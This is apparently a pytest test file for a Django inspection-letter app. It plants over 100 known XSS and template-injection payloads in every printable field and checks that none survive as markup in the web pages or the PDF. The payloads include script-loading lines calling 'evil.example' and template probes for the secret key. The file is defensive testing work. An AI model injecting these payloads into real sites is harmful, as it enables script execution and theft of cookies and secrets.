"""XSS: known payloads in every text field that prints, checked in the editor, the HTML
letter and the PDF. Figure: payloads surviving as markup (goal 0)."""

import html
import io
import re
import shutil
import subprocess
import unicodedata
from collections import Counter
from html.parser import HTMLParser

import pikepdf
import pytest
from django.test import Client
from django.urls import reverse
from pypdf import PdfReader

from inspections.models import FocusArea, Inspector, LocalAuthority, Office, Visit
from letters.models import Comment, Item, Letter, Section
from letters.rendering.pdf import letter_html, letter_pdf
from tests.factories import SectionFactory, inspector_user, letter_led_by, qa_manager_user

pytestmark = pytest.mark.django_db

# Known payloads, one line each (a newline would split an address or cc block).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<ScRiPt>alert(document.cookie)</ScRiPt>",
    "<script/src=data:,alert(1)></script>",
    "<script >alert(1)</script >",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.domain)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<img srcset=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>X</maction></math>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<body onpageshow=alert(1)>",
    "<body/onhashchange=alert(1)><a href=#>x</a>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<a onmouseover=alert(1)>hover</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '"/><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel=import href="http://evil.example/x.html">',
    '<div style="behavior: url(xss.htc);">x</div>',
    '<div style="-moz-binding:url(http://evil.example/xss.xml#xss)">x</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="http://evil.example/x.html"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<applet code=evil.class></applet>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=http://evil.example/">',
    '<meta http-equiv="Set-Cookie" content="session=evil">',
    '<meta charset="x-imap4-modified-utf7">',
    '<base href="javascript:alert(1)//">',
    '<BASE HREF="http://evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert('XSS')\">",
    "<td background=\"javascript:alert('XSS')\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<a href="#" onclick="alert(1)">x</a>',
    "javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "{{ 7*7 }}",
    "{{ request.META }}",
    "{{settings.SECRET_KEY}}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% csrf_token %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    'http://example.com/"onmouseover="alert(1)',
    "www.example.com/<script>alert(1)</script>",
    "http://example.com/?q=<svg/onload=alert(1)>",
    'https://example.com/#"><img src=x onerror=alert(1)>',
    "javascript:alert(1)@example.com",
    '"><script>alert(1)</script>"@example.com',
    '<a href="http://example.com" onclick="alert(1)">example.com</a>',
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x onerror=al\\u0065rt(1)>",
    "<img src=x onerror=&#97;lert(1)>",
]

# Every user-editable text field of the letter and the reference data that prints:
# (model, field); the objects are chosen in put_in().
FIELDS = [
    (Visit, "recipient_honorific"),
    (Visit, "recipient_name"),
    (Visit, "recipient_job_title"),
    (Visit, "recipient_organisation"),
    (Visit, "recipient_address"),
    (Visit, "recipient_postcode"),
    (Visit, "recipient_delivery_line"),
    (Visit, "salutation"),
    (Visit, "cc_lines"),
    (Letter, "title"),
    (Letter, "introduction"),
    (Letter, "scope_lead_in"),
    (Letter, "preamble"),
    (Letter, "closing"),
    (Letter, "sign_off"),
    (Letter, "signatory_note"),
    (Letter, "signatory_title"),
    (Section, "heading"),
    (Section, "lead_in"),
    (Section, "none_statement"),
    (Section, "heading_footnote"),
    (Item, "text"),
    (Item, "cross_reference"),
    (Item, "footnote"),
    (Comment, "text"),
    (LocalAuthority, "name"),
    (Office, "address"),
    (Office, "telephone"),
    (Office, "email"),
    (Office, "web_address"),
    (Inspector, "full_name"),
    (FocusArea, "wording"),
]
# Fields the standard wording replaces: left blank every other round, so that the
# authority's name and the inspectors' names print in the standard title and introduction.
STANDARD_WORDING = {(Letter, "title"), (Letter, "introduction")}
PER_ROUND = 30  # payloads joined into a long field in one round

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "meta",
    "link",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "select",
    "textarea",
    "keygen",
    "isindex",
    "img",
    "image",
    "video",
    "audio",
    "source",
    "details",
    "marquee",
    "template",
    "noscript",
    "xss",
    "body",
    "table",
    "td",
    "div",
    "set",
    "animate",
    "use",
    "foreignobject",
    "maction",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "dynsrc",
    "lowsrc",
    "content",
    "srcdoc",
    "code",
}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data:text/html|livescript)", re.IGNORECASE)
BAD_STYLE = re.compile(r"expression\s*\(|javascript:|behavior\s*:|-moz-binding", re.IGNORECASE)


def compact(value):
    """A URL as a browser reads it: without the white space and controls it skips."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value or "")


class Markup(HTMLParser):
    """Collects what a page's markup does: tags, handlers, URLs, scripts, and its text."""

    def __init__(self, nonce=None):
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.tags = Counter()
        self.findings = []  # markup that can only be a payload's
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and BAD_SCHEME.match(compact(value)):
                self.findings.append(f"<{tag} {name}={value!r}>")
            if name == "content" and "url=" in compact(value).lower():
                self.findings.append(f"<{tag} content={value!r}>")
            if name == "style" and BAD_STYLE.search(value or ""):
                self.findings.append(f"<{tag} style={value!r}>")
        attributes = dict(attrs)
        if tag == "script" and (self.nonce is None or attributes.get("nonce") != self.nonce):
            self.findings.append("<script> without the page's nonce")
        if tag in {"iframe", "frame", "object", "embed", "applet", "base"} and any(
            BAD_SCHEME.match(compact(v)) or "evil" in (v or "") for _, v in attrs
        ):
            self.findings.append(f"<{tag}> from a payload")
        if tag == "meta" and "http-equiv" in attributes:
            self.findings.append("<meta http-equiv>")
        if tag == "base":
            self.findings.append("<base>")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def parse(page, nonce=None):
    parser = Markup(nonce)
    parser.feed(page)
    parser.close()
    parser.joined = " ".join(" ".join(parser.text).split())
    return parser


def surviving(page, baseline, nonce=None):
    """Markup in `page` that only a payload can have put there."""
    markup = parse(page, nonce)
    found = list(markup.findings)
    for tag in DANGEROUS_TAGS:
        extra = markup.tags[tag] - baseline.tags[tag]
        if extra > 0:
            found.append(f"{extra} more <{tag}> than the clean page")
    return found, markup


def page_nonce(response):
    match = re.search(r"'nonce-([^']+)'", response.get("Content-Security-Policy", ""))
    return match.group(1) if match else None


def max_length(model, name):
    return model._meta.get_field(name).max_length


def plan_rounds():
    """For each round, the payloads each field holds (None: the field is left as it is)."""
    queues = {
        field: [p for p in PAYLOADS if not max_length(*field) or len(p) <= max_length(*field)]
        for field in FIELDS
    }
    placed = sum(len(q) for q in queues.values())
    rounds = []
    number = 0
    while any(queues.values()):
        plan = {}
        for field, queue in queues.items():
            if field in STANDARD_WORDING and number % 2 == 1:
                plan[field] = None  # blank: the standard wording prints
                continue
            limit = max_length(*field)
            taken = []
            while queue and len(taken) < PER_ROUND:
                candidate = " ".join([*taken, queue[0]])
                if limit and len(candidate) > limit:
                    break
                taken.append(queue.pop(0))
            plan[field] = taken
        rounds.append(plan)
        number += 1
    return rounds, placed


def put_in(letter, plan, objects):
    """Write the round's payloads with the ORM (update: no validation, no escaping)."""
    by_model = {}
    for (model, name), payloads in plan.items():
        if payloads is None:
            value = ""
        elif payloads:
            value = " ".join(payloads)
        else:
            value = f"Plain {name.replace('_', ' ')}"[: max_length(model, name)]
            if model is LocalAuthority:
                value = "Fernshire"
        by_model.setdefault(model, {})[name] = value
    for model, values in by_model.items():
        model.objects.filter(pk__in=objects[model]).update(**values)
    return by_model


@pytest.fixture
def setting():
    inspector = inspector_user()
    qa = qa_manager_user()
    letter = letter_led_by(inspector)
    # A section with no items, so that its none-statement prints.
    SectionFactory(letter=letter, position=3, kind=Section.Kind.PRIORITY_ACTIONS)
    visit = letter.visit
    Visit.objects.filter(pk=visit.pk).update(qa_manager=qa.inspector)
    item = Item.objects.filter(section__letter=letter).first()
    Comment.objects.create(letter=letter, author=qa, text="x")
    Comment.objects.create(letter=letter, item=item, item_text=item.text, author=qa, text="x")
    objects = {
        Visit: [visit.pk],
        Letter: [letter.pk],
        Section: list(letter.sections.values_list("pk", flat=True)),
        Item: list(Item.objects.filter(section__letter=letter).values_list("pk", flat=True)),
        Comment: list(letter.comments.values_list("pk", flat=True)),
        LocalAuthority: [visit.authority_id],
        Office: [visit.office_id],
        Inspector: [m.inspector_id for m in visit.team.all()] + [qa.inspector.pk],
        FocusArea: [v.focus_area_id for v in visit.visit_focus_areas.all()],
    }
    return letter, inspector, qa, objects


def fresh(letter):
    from letters.rendering.compose import letter_queryset

    return letter_queryset().get(pk=letter.pk)


def pdf_problems(pdf):
    """JavaScript, launch actions and javascript: links in a PDF."""
    problems = []
    with pikepdf.open(io.BytesIO(pdf)) as document:
        root = document.Root
        for key in ("/OpenAction", "/AA"):
            if key in root:
                problems.append(f"catalogue {key}")
        if "/Names" in root and "/JavaScript" in root.Names:
            problems.append("catalogue /Names /JavaScript")
        for obj in document.objects:
            if not isinstance(obj, pikepdf.Dictionary):
                continue
            action = obj.get("/S")
            if action in (pikepdf.Name.JavaScript, pikepdf.Name.Launch):
                problems.append(f"action {action}")
            if "/JS" in obj:
                problems.append("/JS entry")
            uri = obj.get("/URI")
            if uri is not None and BAD_SCHEME.match(compact(str(uri))):
                problems.append(f"/URI {uri}")
        raw = b"".join(
            bytes(obj.read_raw_bytes()) if isinstance(obj, pikepdf.Stream) else b""
            for obj in document.objects
        )
    for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"/OpenAction"):
        if marker in raw:
            problems.append(f"{marker.decode()} in a stream")
    return problems


def squeeze(text):
    """Text without white space, controls (pypdf reads some fonts with NULs between
    characters) and invisible format characters (zero-width, bidi)."""
    return "".join(
        c for c in text if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")
    )


MIRRORED = str.maketrans("<>()[]{}", "><)(][}{")


def printed_forms(payload):
    """How a payload's text can read in a PDF: as written, or, when it overrides the
    direction to right-to-left, as displayed (reversed, brackets mirrored)."""
    forms = {squeeze(payload), squeeze(html.unescape(payload))}
    if any(unicodedata.bidirectional(c) in ("RLO", "RLE", "RLI") for c in payload):
        forms.add(squeeze(payload)[::-1].translate(MIRRORED))
    return forms


PDFTOTEXT = shutil.which("pdftotext")
# A word longer than this may be wider than a line, and then runs off the page (a bug:
# test_a_word_wider_than_the_line_is_cut), so it is not looked for in the PDF's text.
WIDEST_WORD = 60


def without_page_numbers(text):
    """The page's text without its page-number line: printed at the foot, it reads between
    the last line of one page and the first of the next, inside a text the break splits."""
    return "\n".join(line for line in text.splitlines() if not line.strip().isdigit())


def pdf_text(pdf):
    """The PDF's text. Poppler's pdftotext when installed: pypdf misreads glyphs that come
    from a fallback font (fullwidth brackets, say), which then cannot be checked."""
    if PDFTOTEXT:
        result = subprocess.run(
            [PDFTOTEXT, "-raw", "-enc", "UTF-8", "-", "-"],
            input=pdf,
            capture_output=True,
            check=True,
        )
        return squeeze(without_page_numbers(result.stdout.decode()))
    reader = PdfReader(io.BytesIO(pdf))
    return "".join(squeeze(without_page_numbers(page.extract_text())) for page in reader.pages)


def checkable_in_pdf(payload):
    """pypdf reads the letter's own font; the fallback font's glyphs need pdftotext."""
    return bool(PDFTOTEXT) or all(ord(c) < 0x2000 for c in payload)


def test_xss_payloads_never_survive_as_markup(setting):
    """Every payload in every field prints as text in the editor, the letter and the PDF."""
    letter, inspector, qa, objects = setting
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100
    editor = Client(raise_request_exception=True)
    editor.force_login(inspector)
    reviewer = Client(raise_request_exception=True)
    reviewer.force_login(qa)
    pk = letter.visit_id
    pages = {
        "editor": (editor, reverse("letters:letter-editor", args=[pk])),
        "preview": (editor, reverse("letters:letter-preview", args=[pk])),
        "review": (reviewer, reverse("letters:review-letter", args=[pk])),
    }

    def render_all():
        current = fresh(letter)
        out = {}
        for name, (client, url) in pages.items():
            response = client.get(url)
            assert response.status_code == 200, name
            out[name] = (response.content.decode(), page_nonce(response))
        out["letter html"] = (letter_html(current, for_print=False), None)
        out["print html"] = (letter_html(current, for_print=True), None)
        return out

    clean_plan = {field: [] for field in FIELDS}
    put_in(letter, clean_plan, objects)
    baselines = {name: parse(page, nonce) for name, (page, nonce) in render_all().items()}

    rounds, placed = plan_rounds()
    survivors, not_as_text, pdf_issues, pdf_missing = [], [], [], []
    for plan in rounds:
        values = put_in(letter, plan, objects)
        for name, (page, nonce) in render_all().items():
            found, markup = surviving(page, baselines[name], nonce)
            survivors += [f"{name}: {f}" for f in found]
            if name in ("letter html", "print html", "preview"):
                for (model, field), payloads in plan.items():
                    if not payloads or (model, field) == (Comment, "text"):
                        continue
                    if (model, field) == (Section, "none_statement"):
                        continue  # printed only under the empty section: checked below
                    value = " ".join(values[model][field].split())
                    if value not in markup.joined:
                        not_as_text.append(f"{name}: {model.__name__}.{field}")
        pdf = letter_pdf(fresh(letter))
        pdf_issues += pdf_problems(pdf)
        text = pdf_text(pdf)
        for (model, field), payloads in plan.items():
            if model is Comment or not payloads:
                continue
            for payload in payloads:
                if not checkable_in_pdf(payload):
                    continue
                if max(len(word) for word in payload.split()) > WIDEST_WORD:
                    continue  # runs off the page: test_a_word_wider_than_the_line_is_cut
                if not any(form in text for form in printed_forms(payload)):
                    pdf_missing.append((f"{model.__name__}.{field}", payload))

    count = len(survivors) + len(pdf_issues)
    print(
        f"xss: {len(PAYLOADS)} payloads x {len(FIELDS)} fields ({placed} placements that fit "
        f"the fields, {len(rounds)} rounds), surviving as markup: {count}"
    )
    print(f"xss: payloads not printed as text in the PDF: {len(pdf_missing)}")
    assert survivors == []
    assert pdf_issues == []
    assert not_as_text == []
    assert pdf_missing == []


@pytest.mark.skipif(not PDFTOTEXT, reason="needs poppler's pdftotext to read the page as cropped")
def test_a_word_wider_than_the_line_breaks_rather_than_is_cut(setting):
    """A word longer than the line is printed whole, over several lines."""
    letter = setting[0]
    word = "A" * 60 + "B" * 60 + "C" * 60 + "Z"
    Item.objects.filter(section__letter=letter).update(text=word)
    assert word in "".join(pdf_text(letter_pdf(fresh(letter))).split())
